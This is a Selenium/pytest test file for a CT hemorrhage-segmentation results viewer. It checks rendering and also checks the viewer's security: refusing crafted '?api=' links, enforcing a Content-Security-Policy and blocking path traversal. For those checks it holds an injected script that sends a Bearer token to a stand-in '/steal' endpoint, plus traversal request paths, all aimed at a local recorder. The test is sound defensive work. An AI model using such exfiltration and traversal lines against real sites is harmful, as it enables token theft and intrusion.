"""The results viewer (``viewer/``) in a real browser: headless Chromium driven by Selenium against
the local stack, on a job the stack really processed.

Debian's ``chromium`` and ``chromium-driver`` are required (``make browser`` installs them); the
system chromedriver is passed explicitly and ``SE_OFFLINE`` is set, so Selenium Manager never tries
to download a driver (nothing is fetched at run time).

Security (issue 19, item 5): the page calls its configured API only (a link's ``?api=`` naming
another server is refused, and that server gets no request), under a Content-Security-Policy that
the local front sends and ``firebase.json`` carries for Firebase Hosting, the same policy.
"""

from __future__ import annotations

import io
import json
import re
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import numpy as np
import pytest
import requests
from PIL import Image
from pydicom.uid import generate_uid

from ichseg.pipeline.config import PipelineConfig
from ichseg.pipeline.context import PipelineContext
from ichseg.pipeline.jobs import JobState
from infrastructure.api_front import aws_link_origins, viewer_csp, viewer_headers
from infrastructure.local_stack import LocalStack
from tests.scan_fixtures import dicom_bytes, dicom_series, zip_files
from tests.stack_fixtures import AppClient, head_frames, video_bytes

WAIT_SECONDS = 20.0
QUIET_SECONDS = 3.0
"""How long a server that must get nothing is watched after the page has settled."""
HOSTING_CONFIG = Path(__file__).resolve().parents[2] / "firebase.json"
HOSTING_PLACEHOLDERS = {"api_origin": "__API_ORIGIN__", "bucket": "__BUCKET__", "region": "__REGION__"}
"""What docs/deploy.md replaces in firebase.json with the stack's values at deploy time."""
EXPECTED_FIXED_DIRECTIVES = {
    "default-src": {"'none'"},
    "script-src": {"'self'"},
    "style-src": {"'self'"},
    "object-src": {"'none'"},
    "base-uri": {"'none'"},
    "form-action": {"'none'"},
    "frame-ancestors": {"'none'"},
}
"""The directives that name no deployment's origins: the same everywhere."""


@pytest.fixture(scope="module")
def finished_job(stack: LocalStack, tmp_path_factory: pytest.TempPathFactory) -> tuple[str, dict[str, Any]]:
    """A small scan processed by the stack: 8 slices, the last 4 with a 'bleed'; (job id, report)."""
    client = AppClient(stack, "viewer-user")
    frames = head_frames(8, height=96, width=120, bleed_from=4)
    job_id = client.upload(video_bytes(tmp_path_factory.mktemp("scan"), frames))
    assert client.wait(job_id).state == JobState.DONE
    status = client.status(job_id).json()
    report = requests.get(status["results"]["report"], timeout=30).json()
    return job_id, report


@pytest.fixture(scope="module")
def two_series_job(stack: LocalStack, tmp_path_factory: pytest.TempPathFactory) -> tuple[str, dict[str, Any]]:
    """A DICOM zip of one study with two series, processed by the stack: (job id, report).

    Series 2 is a two-stage soft-kernel head (6 x 4 mm then 6 x 7 mm, contiguous: 66 mm, over the
    selection's 60 mm and 10 slices); series 3 is the same study in a bone kernel, which the
    selection skips.
    """
    study = generate_uid()
    offsets = [4.0 * k for k in range(6)] + [20.0 + 5.5 + 7.0 * k for k in range(6)]
    soft = dicom_series(
        rows=40,
        cols=48,
        offsets_mm=offsets,
        thickness_mm=[4.0] * 6 + [7.0] * 6,
        study_uid=study,
        attributes={"SeriesNumber": 2, "ConvolutionKernel": "H30s"},
    )
    bone = dicom_series(
        count=12,
        rows=40,
        cols=48,
        step_mm=5.0,
        study_uid=study,
        attributes={"SeriesNumber": 3, "ConvolutionKernel": "H70h"},
    )
    members = {f"IM{i:04d}": dicom_bytes(ds) for i, ds in enumerate(soft + bone)}
    archive = zip_files(tmp_path_factory.mktemp("dicom") / "study.zip", members)
    client = AppClient(stack, "alice")
    job_id = client.upload(archive.read_bytes(), "application/zip")
    assert client.wait(job_id).state == JobState.DONE
    report = requests.get(client.status(job_id).json()["results"]["report"], timeout=30).json()
    return job_id, report


def _wait(driver: Any, condition: Any, message: str) -> Any:
    from selenium.webdriver.support.ui import WebDriverWait

    return WebDriverWait(driver, WAIT_SECONDS).until(condition, message)


def _canvas_state(driver: Any) -> dict[str, str]:
    return dict(driver.execute_script("return Object.assign({}, document.getElementById('slice').dataset);"))


def _wait_drawn(driver: Any, index: int, drawn: str | None = None) -> None:
    """Until the canvas shows slice ``index`` (and, if given, drawn 'outlined' or 'plain')."""

    def shown(d: Any) -> bool:
        state = _canvas_state(d)
        return state.get("slice") == str(index) and (drawn is None or state.get("drawn") == drawn)

    _wait(driver, shown, f"the canvas never showed slice {index} ({drawn or 'any'}): {_canvas_state(driver)}")


def _red_pixels(png: bytes) -> int:
    """Pixels clearly redder than grey: the outline's colour; a plain CT slice has none."""
    rgb = np.asarray(Image.open(io.BytesIO(png)).convert("RGB")).astype(np.int16)
    return int(((rgb[..., 0] - rgb[..., 1] > 80) & (rgb[..., 0] - rgb[..., 2] > 80)).sum())


def _directives(policy: str) -> dict[str, set[str]]:
    """A Content-Security-Policy as {directive: its sources}; a repeated directive fails (browsers
    would ignore the second, so a policy that has one does not say what it seems to)."""
    parsed: dict[str, set[str]] = {}
    for part in policy.split(";"):
        name, *sources = part.split()
        assert name not in parsed, f"{name} twice in {policy!r}"
        parsed[name] = set(sources)
    return parsed


def _origin(url: str) -> str:
    parts = urlsplit(url)
    return f"{parts.scheme}://{parts.netloc}"


class RequestRecorder:
    """A tiny HTTP server on 127.0.0.1, port 0, that records every request it gets (and answers
    each with a permissive-CORS 'fake result', as a hostile server would)."""

    def __init__(self) -> None:
        self.requests: list[tuple[str, str, dict[str, str]]] = []
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def parse_request(self) -> bool:
                parsed = super().parse_request()
                if parsed:
                    recorder.requests.append((self.command, self.path, dict(self.headers.items())))
                return parsed

            def _answer(self) -> None:
                body = json.dumps({"job_id": "fake", "state": "DONE"}).encode()
                self.send_response(200)
                for name, value in (
                    ("Access-Control-Allow-Origin", "*"),
                    ("Access-Control-Allow-Headers", "Authorization"),
                    ("Content-Type", "application/json"),
                    ("Content-Length", str(len(body))),
                ):
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_OPTIONS = do_POST = _answer

            def log_message(self, format: str, *args: Any) -> None:
                return None

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        self.thread = threading.Thread(target=self.server.serve_forever, name="viewer-test-recorder", daemon=True)
        self.thread.start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()

    def assert_quiet(self, seconds: float = QUIET_SECONDS) -> None:
        """No request now, nor during the next ``seconds`` (a late request would still be caught)."""
        deadline = time.monotonic() + seconds
        while True:
            assert self.requests == [], self.requests
            if time.monotonic() > deadline:
                return
            time.sleep(0.1)


@pytest.fixture
def recorder() -> Iterator[RequestRecorder]:
    """Another server, as a crafted link would name it; it proves it can be reached before use."""
    server = RequestRecorder()
    try:
        assert requests.get(f"{server.url}/probe", timeout=10).status_code == 200
        assert [(method, path) for method, path, _ in server.requests] == [("GET", "/probe")]
        server.requests.clear()
        yield server
    finally:
        server.stop()


def _severe(driver: Any) -> list[dict[str, Any]]:
    """The console's errors since the last call (reading the log empties it)."""
    return [entry for entry in driver.get_log("browser") if entry["level"] == "SEVERE"]


def test_the_status_reply_links_every_slice_frame_and_mask(
    stack: LocalStack, finished_job: tuple[str, dict[str, Any]]
) -> None:
    job_id, report = finished_job
    status = AppClient(stack, "viewer-user").status(job_id).json()
    links = {item["id"]: item for item in status["slices"]}
    assert set(links) == {s["id"] for s in report["slices"]}
    frame = Image.open(io.BytesIO(requests.get(links[report["slices"][-1]["id"]]["frame"], timeout=30).content))
    mask = Image.open(io.BytesIO(requests.get(links[report["slices"][-1]["id"]]["mask"], timeout=30).content))
    assert frame.format == "JPEG" and mask.format == "PNG" and frame.size == mask.size
    # Another user learns nothing, slice links included.
    assert AppClient(stack, "someone-else").status(job_id).status_code == 404


def test_the_front_serves_the_viewer_files_only(stack: LocalStack) -> None:
    page = requests.get(f"{stack.api_url}/viewer/", timeout=30)
    assert page.status_code == 200 and page.headers["Content-Type"].startswith("text/html")
    assert "Not for clinical use" in page.text
    moved = requests.get(f"{stack.api_url}/viewer", timeout=30, allow_redirects=False)
    assert moved.status_code == 301 and moved.headers["Location"] == "/viewer/"
    assert (
        requests.get(f"{stack.api_url}/viewer/viewer.js", timeout=30)
        .headers["Content-Type"]
        .startswith("text/javascript")
    )
    for outside in ("/viewer/../functions/api.py", "/viewer/%2e%2e/README.md", "/viewer/nothing.html"):
        assert requests.get(stack.api_url + outside, timeout=30).status_code == 404, outside


def test_the_viewer_shows_a_finished_job_in_a_real_browser(
    browser: Any, stack: LocalStack, finished_job: tuple[str, dict[str, Any]], tmp_path: Path
) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    driver = browser
    job_id, report = finished_job
    probabilities = [s["probability"] for s in report["slices"]]
    count = len(probabilities)
    token = stack.token("viewer-user")

    # Without a token the page asks for one (a link shared without it); the pasted token opens the scan.
    driver.get(f"{stack.api_url}/viewer/?job={job_id}")
    field = _wait(driver, lambda d: d.find_element(By.ID, "token-input"), "no sign-in form")
    _wait(driver, lambda d: field.is_displayed(), "the sign-in form stays hidden")
    field.send_keys(token + Keys.ENTER)
    best = int(np.argmax(probabilities))
    _wait_drawn(driver, best)  # opens on the most likely slice

    # The usual way in: the token in the fragment, which the page then drops from the address bar.
    driver.get("about:blank")  # else only the fragment changes, and the open page stays as it is
    driver.get(f"{stack.api_url}/viewer/?job={job_id}#token={token}")
    _wait_drawn(driver, best, "outlined")
    assert "token" not in driver.current_url and driver.current_url.endswith(f"?job={job_id}")
    assert not driver.find_element(By.ID, "signin").is_displayed()

    # The facts come from report.json; "Not for clinical use" and the model are shown.
    text = driver.find_element(By.TAG_NAME, "body").text
    assert driver.find_element(By.ID, "finding").text == report["finding"] == "Hemorrhage detected"
    assert "NOT FOR CLINICAL USE" in text.upper()
    assert driver.find_element(By.ID, "model").text == f"{report['model']['name']} {report['model']['version']}"
    assert driver.find_element(By.ID, "positive").text == f"{len(report['slices_with_hemorrhage'])} of {count}"
    subtype_rows = driver.find_elements(By.CSS_SELECTOR, "#subtypes tr")
    assert len(subtype_rows) == len(report["subtypes"])
    # 8 slices of a video: the answer stands, with its warning beside the finding, and the missing
    # volume says why.
    assert [w["code"] for w in report["warnings"]] == ["partial_coverage"]
    shown = driver.find_elements(By.CSS_SELECTOR, "#warnings li")
    assert [(li.get_attribute("data-code"), li.text) for li in shown] == [
        (w["code"], w["message"]) for w in report["warnings"]
    ]
    assert report["volume_note"] and driver.find_element(By.ID, "volume-note").text == report["volume_note"]
    # The tiny model has no scan head: the finding is its top slice's, with nothing to reconcile.
    assert report["scan_model"] is None and report["finding_note"] is None
    assert not driver.find_element(By.ID, "finding-note-row").is_displayed()

    # The slider (keyboard on the focused range input: Home is its first value) changes the slice.
    slider = driver.find_element(By.ID, "slider")
    assert slider.get_attribute("max") == str(count - 1)
    slider.send_keys(Keys.HOME)
    _wait_drawn(driver, 0)
    slider.send_keys(Keys.ARROW_RIGHT)
    _wait_drawn(driver, 1)
    # Arrow keys anywhere else on the page step through the slices (and wrap at the ends).
    box = driver.find_element(By.ID, "frame-box")
    box.click()
    box.send_keys(Keys.ARROW_RIGHT)
    _wait_drawn(driver, 2)
    box.send_keys(Keys.ARROW_LEFT, Keys.ARROW_LEFT, Keys.ARROW_LEFT)
    _wait_drawn(driver, count - 1)
    assert driver.find_element(By.ID, "slice-label").text == f"Slice {count} / {count}"

    # Clicking a bar of the probability chart jumps to its slice; the threshold line sits at the slice threshold.
    target = next(i for i, s in enumerate(report["slices"]) if s["area_px"] > 0 and i != count - 1)
    driver.find_element(By.CSS_SELECTOR, f"#chart rect.bar[data-index='{target}']").click()
    _wait_drawn(driver, target, "outlined")
    threshold = driver.find_element(By.CSS_SELECTOR, "#chart line.threshold")
    assert float(threshold.get_attribute("y1")) == pytest.approx(100 - 100 * report["thresholds"]["slice"])

    # The overlay toggle: the outline's red is on the canvas, then gone, and the frame is otherwise the same image.
    canvas = driver.find_element(By.ID, "slice")
    outlined = canvas.screenshot_as_png
    driver.find_element(By.ID, "overlay").click()
    _wait_drawn(driver, target, "plain")
    assert _canvas_state(driver)["overlay"] == "off"
    plain = canvas.screenshot_as_png
    assert _red_pixels(outlined) > 20 and _red_pixels(plain) == 0
    driver.find_element(By.ID, "overlay").click()
    _wait_drawn(driver, target, "outlined")

    # Play advances by itself; pause stops it.
    driver.find_element(By.ID, "play").click()
    _wait(driver, lambda d: _canvas_state(d)["slice"] != str(target), "playing did not advance")
    driver.find_element(By.ID, "play").click()
    assert driver.find_element(By.ID, "play").text == "Play"
    # Space plays and pauses too, from the image (not only from the button).
    box.send_keys(Keys.SPACE)
    assert driver.find_element(By.ID, "play").text == "Pause"
    box.send_keys(Keys.SPACE)
    assert driver.find_element(By.ID, "play").text == "Play"

    # Zoom in and back to fit.
    driver.find_element(By.ID, "zoom-in").click()
    assert float(_canvas_state(driver)["zoom"]) == pytest.approx(1.25)
    driver.find_element(By.ID, "zoom-reset").click()
    assert float(_canvas_state(driver)["zoom"]) == 1.0

    shot = tmp_path / "viewer.png"
    driver.save_screenshot(str(shot))
    assert shot.stat().st_size > 10_000 and Image.open(shot).size[0] >= 1000
    # No console errors (failed loads, exceptions) in the whole session.
    errors = [entry for entry in driver.get_log("browser") if entry["level"] == "SEVERE"]
    assert errors == [], json.dumps(errors, indent=1)


def test_the_viewer_names_the_segmented_series_and_the_spacing_profile(
    browser: Any, stack: LocalStack, two_series_job: tuple[str, dict[str, Any]]
) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    driver = browser
    job_id, report = two_series_job
    # What the page shows comes from these; a report without them would make the checks below vacuous.
    assert report["series"]["chosen"]["series_number"] == 2
    assert [(s["series_number"], s["reason"]) for s in report["series"]["skipped"]] == [(3, "sharp_kernel")]
    assert [(run["count"], run["extent_mm"]) for run in report["spacing_profile"]] == [(6, 4.0), (6, 7.0)]

    driver.get("about:blank")
    driver.get(f"{stack.api_url}/viewer/?job={job_id}#token={stack.token('alice')}")
    _wait(driver, lambda d: _canvas_state(d).get("slice") not in (None, "-1"), "the DICOM scan never showed")

    assert driver.find_element(By.ID, "series-block").is_displayed()
    chosen = driver.find_element(By.ID, "series-chosen").text
    assert chosen.startswith("Series 2 · H30s · 5.5 mm · 12 images"), chosen
    assert driver.find_element(By.ID, "series-skipped-summary").text == "1 other series skipped"
    skipped = driver.find_elements(By.CSS_SELECTOR, "#series-skipped-list li")
    assert len(skipped) == 1 and skipped[0].is_displayed()
    assert skipped[0].get_attribute("data-reason") == "sharp_kernel"
    assert "Series 3 · H70h" in skipped[0].text and report["series"]["skipped"][0]["detail"] in skipped[0].text
    assert not driver.find_element(By.ID, "series-non-image").is_displayed()

    assert driver.find_element(By.ID, "spacing-block").is_displayed()
    runs = [item.text for item in driver.find_elements(By.CSS_SELECTOR, "#spacing-runs li")]
    assert runs == ["Slices 1–6: 4.0 mm (6 slices)", "Slices 7–12: 7.0 mm (6 slices)"]

    # Each slice's own extent beside its probability and area: 4 mm at the bottom, 7 mm at the top.
    slider = driver.find_element(By.ID, "slider")
    slider.send_keys(Keys.HOME)
    _wait_drawn(driver, 0)
    assert driver.find_element(By.ID, "slice-extent").text == "4.0 mm"
    slider.send_keys(Keys.END)
    _wait_drawn(driver, 11)
    assert driver.find_element(By.ID, "slice-extent").text == "7.0 mm"
    errors = [entry for entry in driver.get_log("browser") if entry["level"] == "SEVERE"]
    assert errors == [], json.dumps(errors, indent=1)


def test_a_video_scan_shows_no_series_nor_spacing(
    browser: Any, stack: LocalStack, finished_job: tuple[str, dict[str, Any]]
) -> None:
    from selenium.webdriver.common.by import By

    driver = browser
    job_id, report = finished_job
    assert report.get("series") is None and report.get("spacing_profile") is None
    driver.get("about:blank")
    driver.get(f"{stack.api_url}/viewer/?job={job_id}#token={stack.token('viewer-user')}")
    _wait(driver, lambda d: _canvas_state(d).get("slice") not in (None, "-1"), "the video scan never showed")
    for hidden in ("series-block", "spacing-block", "slice-extent-row", "slice-note-row"):
        assert not driver.find_element(By.ID, hidden).is_displayed(), hidden
    assert driver.find_element(By.ID, "slice-probability").is_displayed()


def test_a_failed_job_says_why_and_not_to_wait(browser: Any, stack: LocalStack) -> None:
    from selenium.webdriver.common.by import By

    driver = browser
    client = AppClient(stack, "viewer-failed")
    job_id = client.upload(b"this is not a scan at all" * 10, "video/mp4")
    job = client.wait(job_id)
    assert job.state == JobState.FAILED and job.error_reason
    driver.get("about:blank")
    driver.get(f"{stack.api_url}/viewer/?job={job_id}#token={stack.token('viewer-failed')}")
    _wait(driver, lambda d: "FAILED" in d.find_element(By.ID, "message").text, "the failure was never shown")
    text = driver.find_element(By.ID, "message").text
    assert job.error_reason in text and "Upload it again" in text and "Reload when" not in text
    assert f"give ops the job id {job_id}" in text
    assert "error" in (driver.find_element(By.ID, "message").get_attribute("class") or "")


# ---------------------------------------------------------------------- security (issue 19, item 5)


def test_the_front_sends_the_viewer_csp_naming_the_api_and_the_links_origin(
    stack: LocalStack, finished_job: tuple[str, dict[str, Any]]
) -> None:
    job_id, _ = finished_job
    # The origin the API's presigned links really use (moto's, path-style): what the policy must allow.
    status = AppClient(stack, "viewer-user").status(job_id).json()
    link_origins = {_origin(status["results"]["report"])}
    link_origins |= {_origin(item[kind]) for item in status["slices"] for kind in ("frame", "mask")}
    assert link_origins == {_origin(stack.moto_url)}
    expected = {
        **EXPECTED_FIXED_DIRECTIVES,
        "img-src": {*link_origins, "data:"},
        "connect-src": {"'self'", *link_origins},  # the API is the front that serves the page
    }
    for path in ("/viewer/", "/viewer/index.html", "/viewer/viewer.js", "/viewer/config.js", "/viewer/nothing.html"):
        response = requests.get(stack.api_url + path, timeout=30)
        assert _directives(response.headers["Content-Security-Policy"]) == expected, path
        assert response.headers["Referrer-Policy"] == "no-referrer", path
        assert response.headers["X-Content-Type-Options"] == "nosniff", path
    page = requests.get(f"{stack.api_url}/viewer/", timeout=30)
    assert page.headers["Content-Security-Policy"] == viewer_csp("'self'", [_origin(stack.moto_url)])
    # script-src 'self' without 'unsafe-inline': the page must have no inline script, handler nor style.
    markup = re.sub(r"<!--.*?-->", "", page.text, flags=re.DOTALL)
    assert re.findall(r"<script\b[^>]*>", markup) == ['<script src="config.js">', '<script src="viewer.js">']
    assert not re.search(r"\son[a-z]+\s*=|\sstyle\s*=|<style\b|javascript:", markup, flags=re.IGNORECASE)


def test_the_hosting_config_carries_the_local_fronts_headers(
    stack: LocalStack, monkeypatch: pytest.MonkeyPatch
) -> None:
    hosting = json.loads(HOSTING_CONFIG.read_text())["hosting"]
    rules = [rule for rule in hosting["headers"] if rule["source"] == "**"]
    assert len(rules) == 1, hosting["headers"]
    served = {header["key"]: header["value"] for header in rules[0]["headers"]}
    # One source of truth: the file is the front's builder, with deploy.md's placeholders for the stack's values.
    placeholders = HOSTING_PLACEHOLDERS
    cloud = viewer_headers(placeholders["api_origin"], aws_link_origins(placeholders["bucket"], placeholders["region"]))
    assert served == cloud
    # The same policy as the local front sends, but for where the API and the links are.
    local = requests.get(f"{stack.api_url}/viewer/", timeout=30).headers
    assert {name: local[name] for name in served if name != "Content-Security-Policy"} == {
        name: value for name, value in served.items() if name != "Content-Security-Policy"
    }
    cloud_csp = _directives(served["Content-Security-Policy"])
    local_csp = _directives(local["Content-Security-Policy"])
    assert set(cloud_csp) == set(local_csp)
    assert {name: cloud_csp[name] for name in EXPECTED_FIXED_DIRECTIVES} == EXPECTED_FIXED_DIRECTIVES
    assert {name: local_csp[name] for name in EXPECTED_FIXED_DIRECTIVES} == EXPECTED_FIXED_DIRECTIVES
    bucket_origins = set(aws_link_origins(placeholders["bucket"], placeholders["region"]))
    assert cloud_csp["connect-src"] == {placeholders["api_origin"], *bucket_origins}
    assert cloud_csp["img-src"] == {*bucket_origins, "data:"}
    # The API's own presigning (the Lambda's boto3 pin, no endpoint override) lands on one of those origins.
    for variable in ("AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_S3"):
        monkeypatch.delenv(variable, raising=False)
    import boto3

    bucket, region = "ichseg-123456789012-eu-west-1-0a1b2c3d4e5f", "eu-west-1"
    session = boto3.session.Session(aws_access_key_id="AKIDEXAMPLE", aws_secret_access_key="secret", region_name=region)
    s3 = PipelineContext(PipelineConfig(bucket=bucket), session=session).s3
    link = s3.generate_presigned_url("get_object", Params={"Bucket": bucket, "Key": "results/j/report.json"})
    assert _origin(link) in aws_link_origins(bucket, region), link


def test_a_link_naming_another_api_is_refused_and_that_server_gets_nothing(
    browser: Any, stack: LocalStack, finished_job: tuple[str, dict[str, Any]], recorder: RequestRecorder
) -> None:
    from selenium.webdriver.common.by import By

    driver = browser
    job_id, _ = finished_job
    token = stack.token("viewer-user")
    driver.get("about:blank")
    _severe(driver)  # what earlier tests left in the log

    driver.get(f"{stack.api_url}/viewer/?job={job_id}&api={recorder.url}#token={token}")
    message = driver.find_element(By.ID, "message")
    _wait(driver, lambda d: "Refused" in message.text, f"no refusal shown: {message.text!r}")
    assert message.get_attribute("class") == "error"
    assert recorder.url in message.text and stack.api_url in message.text
    assert "token" not in driver.current_url  # dropped from the address bar all the same
    assert not driver.find_element(By.ID, "viewer").is_displayed()
    assert not driver.find_element(By.ID, "signin").is_displayed()  # no asking for a token to send there
    recorder.assert_quiet()
    # Nothing blocked either: the page never tried (a try would be a CSP violation in the console).
    assert _severe(driver) == []

    # Without a token the page would ask for one: it must refuse before that too.
    driver.get("about:blank")
    driver.get(f"{stack.api_url}/viewer/?job={job_id}&api={recorder.url}")
    message = driver.find_element(By.ID, "message")
    _wait(driver, lambda d: "Refused" in message.text, f"no refusal shown: {message.text!r}")
    assert not driver.find_element(By.ID, "signin").is_displayed()
    recorder.assert_quiet(0.5)

    # Naming the viewer's own API is no threat: such links (the app's ?api=<ApiUrl>) still open.
    driver.get("about:blank")
    driver.get(f"{stack.api_url}/viewer/?job={job_id}&api={stack.api_url}/#token={token}")
    _wait(driver, lambda d: _canvas_state(d).get("slice") not in (None, "-1"), "the scan never showed")
    assert recorder.requests == [] and _severe(driver) == []


def test_the_browser_enforces_the_csp_on_the_viewer_page(
    browser: Any, stack: LocalStack, finished_job: tuple[str, dict[str, Any]], recorder: RequestRecorder
) -> None:
    """The header is not decoration: a script on the page (here WebDriver's, as an injected one
    would) cannot reach another server, and the violation reaches the console the other tests read."""
    driver = browser
    job_id, _ = finished_job
    driver.get("about:blank")
    driver.get(f"{stack.api_url}/viewer/?job={job_id}#token={stack.token('viewer-user')}")
    _wait(driver, lambda d: _canvas_state(d).get("slice") not in (None, "-1"), "the scan never showed")
    assert _severe(driver) == []  # the viewer itself works within its policy
    outcome = driver.execute_async_script(
        """
        const done = arguments[arguments.length - 1];
        fetch(arguments[0] + "/steal", {headers: {Authorization: "Bearer x"}})
          .then(() => done("sent"), (error) => done("blocked: " + error));
        """,
        recorder.url,
    )
    assert outcome.startswith("blocked"), outcome
    recorder.assert_quiet()
    violations = [entry for entry in _severe(driver) if "Content Security Policy" in entry["message"]]
    assert violations and "connect-src" in violations[0]["message"], violations
